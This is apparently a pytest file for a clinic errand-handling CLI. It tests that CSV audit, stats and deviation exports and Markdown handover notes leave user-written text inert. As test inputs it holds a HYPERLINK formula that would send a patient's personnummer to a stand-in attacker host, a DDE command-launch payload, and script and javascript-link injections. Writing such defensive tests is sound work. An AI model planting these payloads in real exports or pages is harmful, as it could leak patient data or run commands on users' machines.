"""Issue 28, third round of trust, through main(): exports that cannot act (a remark's formula in
`audit --csv`, a remark's and a note's Markdown in `handover`)."""

from __future__ import annotations

import csv
import io
import sqlite3

import markdown_it
import pytest

from tests.conftest import STAFF, errand_line, jsonl, run_cli

FORMULA = '=HYPERLINK("http://evil.example/?"&G2,"Visa")'
PNR1, PNR2 = "20150315-1233", "20180101-0016"


@pytest.fixture
def db(tmp_path):
    """1177-000001 (a prescription) held by doc1; 1177-000002 (a certificate) held by doc2."""
    path = tmp_path / "trust.db"
    assert run_cli("staff", "import", "-", db=path, stdin=jsonl(*STAFF)).returncode == 0
    errands = jsonl(
        errand_line("1177-000001", received_at="2026-11-20T09:00:00+01:00"),
        errand_line(
            "1177-000002",
            type="begar_intyg",
            subject="Intyg",
            patient={"name": "Hugo Karlsson", "personnummer": PNR2},
        ),
    )
    assert run_cli("import", "-", db=path, stdin=errands).returncode == 0
    for ref, user in (("1177-000001", "doc1"), ("1177-000002", "doc2")):
        assert run_cli("--as", "rec1", "assign", ref, user, db=path).returncode == 0
    return path


def cli(db, user, *args):
    return run_cli("--as", user, *args, db=db)


def audit_rows(db, where: str = "1", args: tuple = ()) -> list[tuple]:
    with sqlite3.connect(db) as conn:
        return conn.execute(
            f"SELECT actor, action, ref, personnummer, outcome, detail FROM audit WHERE {where} ORDER BY id",
            args,
        ).fetchall()


# -- 3. exports that cannot act -------------------------------------------------------------------


def test_a_remarks_formula_comes_out_of_audit_csv_as_text(db):
    """The issue's report: a handover remark `=HYPERLINK(…&G2…)` on a row whose column G holds the
    personnummer came out of `audit --csv` as a live formula."""
    assert cli(db, "rec1", "handover", "--remark", "1177-000001", FORMULA).returncode == 0
    r = cli(db, "adm", "audit", "--csv")
    assert r.returncode == 0, r.stderr
    rows = list(csv.reader(io.StringIO(r.stdout.decode())))
    assert rows[0][6] == "personnummer"  # column G
    remark = next(row for row in rows if row[4] == "remark")
    assert remark[6] == PNR1 and remark[8] == "'" + FORMULA
    for row in rows[1:]:
        for value in row:
            assert value[:1] not in ("=", "+", "@", "\t", "\r"), row
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit(), row


def test_stats_and_deviation_csvs_keep_numbers_and_neutralise_text(db):
    """The other CSVs write through the same rule: the figures stay figures, and what a person
    wrote (a dismissal's reason, a MedControl number) cannot run."""
    r = cli(db, "rec1", "stats", "--csv", "--from", "2026-11-01", "--to", "2026-11-30")
    assert r.returncode == 0, r.stderr
    rows = list(csv.reader(io.StringIO(r.stdout.decode())))
    assert rows[-1][2] == "total" and rows[-1][4] == "2"
    assert cli(db, "adm", "deviations", "--dismiss", "1", "--reason", "=cmd|' /C calc'!A0").returncode == 0
    r = cli(db, "rec1", "deviations", "--csv")
    assert r.returncode == 0, r.stderr
    (header, row) = list(csv.reader(io.StringIO(r.stdout.decode())))
    assert dict(zip(header, row, strict=True))["reason"] == "'=cmd|' /C calc'!A0"
    r = cli(db, "rec1", "stats", "--deviations", "--csv")
    assert list(csv.reader(io.StringIO(r.stdout.decode())))[1][:2] == ["1177-000001", "fornya_recept"]


def _html(markdown: str) -> str:
    return markdown_it.MarkdownIt("gfm-like").render(markdown)


def test_a_remark_and_a_note_stay_text_in_the_handover(db):
    """A remark (and the note to the next shift) with blank lines, `## …`, `<script>`, a link, a
    list, a quote, code and a table's pipes: the handover's Markdown keeps them as text."""
    remark = (
        "Ring mamma\n\n## Viktigt\n<script>alert(1)</script>\n[klicka](javascript:alert(1)) "
        "http://evil.example/x\n- punkt\n> citat\n`kod` | a | b |"
    )
    note = "Lugnt pass\n---\n\n## Rubrik\n- punkt\n1. ett\n<b>fet</b> ```"
    assert cli(db, "rec1", "handover", "--remark", "1177-000001", remark).returncode == 0
    assert cli(db, "rec1", "handover", "--note", note).returncode == 0
    r = cli(db, "rec2", "handover")
    assert r.returncode == 0, r.stderr
    html = _html(r.stdout.decode())
    headings = [line for line in html.splitlines() if line.startswith("<h")]
    assert not any(word in h for h in headings for word in ("Viktigt", "Rubrik", "Lugnt", "Ring"))
    for tag in ("<script", "<a ", "<code", "<pre", "<b>", "<hr"):
        assert tag not in html, tag
    quote = html.split("<blockquote>", 1)[1].split("</blockquote>", 1)[0]
    for tag in ("<ul", "<ol", "<h"):
        assert tag not in quote, tag
    # Each remark stays in its item: one line, and its words as written.
    items = [line for line in html.splitlines() if "Ring mamma" in line]
    assert items and all(line.startswith("<li>") and line.endswith("</li>") for line in items)
    assert "## Viktigt &lt;script&gt;alert(1)&lt;/script&gt; [klicka](javascript:alert(1))" in items[0]
